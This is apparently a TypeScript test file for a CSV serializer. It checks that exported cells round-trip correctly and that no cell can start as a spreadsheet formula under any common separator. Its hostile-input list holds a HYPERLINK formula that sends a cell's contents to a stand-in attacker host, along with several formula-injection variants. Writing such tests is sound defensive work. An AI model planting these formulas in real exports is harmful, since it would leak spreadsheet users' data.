import { expect } from 'chai';
import { csvLine } from '../../server/foundation/csv.ts';

/**
 * The cells of a line as a spreadsheet with this separator reads them; quotation marks count at the start of a cell.
 */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= text.length;) {
    let cell = '';
    let isQuoted = text[at] === '"';
    if (isQuoted) at++;
    for (; at < text.length; at++) {
      const sign = text[at]!;
      if (isQuoted && sign === '"' && text[at + 1] === '"') at++;
      else if (isQuoted && sign === '"') {
        isQuoted = false;
        continue;
      } else if (!isQuoted && (sign === separator || sign === '\n' || sign === '\r')) break;
      cell += sign;
    }
    cells.push(cell);
    at++;
  }
  return cells;
}

describe('a line of comma-separated values', () => {
  it('is read as it was written', () => {
    const values = ['a', 'b "c", d', 'two\nlines', '3; 4', 'x-y', '', 'a;b'];
    expect(cellsOf(csvLine(values).slice(0, -2), ',')).to.deep.equal(values);
    expect(csvLine([-5, null, 'x'])).to.equal('-5,,x\r\n');
  });

  const hostile = ['=1+1', '-1', '+1', '@SUM(1)', '=HYPERLINK("https://evil.test?"&A1,"open")', '＝1+1'];
  const ways = [
    (formula: string) => formula,
    (formula: string) => `no;${formula}`,
    (formula: string) => `no;"${formula};`,
    (formula: string) => `no\n${formula}`,
    (formula: string) => `no\r\n"${formula}`,
    (formula: string) => `no\t${formula}`,
    (formula: string) => `"\n${formula}"`,
  ];
  it('contains no formula, whichever separator a spreadsheet uses', () => {
    for (const separator of [',', ';', '\t'])
      for (const formula of hostile)
        for (const way of ways) {
          const line = csvLine(['first', way(formula), 'last']);
          for (const cell of cellsOf(line, separator)) expect(cell, `${separator} ${line}`).not.to.match(/^[=+\-@＝]/);
        }
  });
});
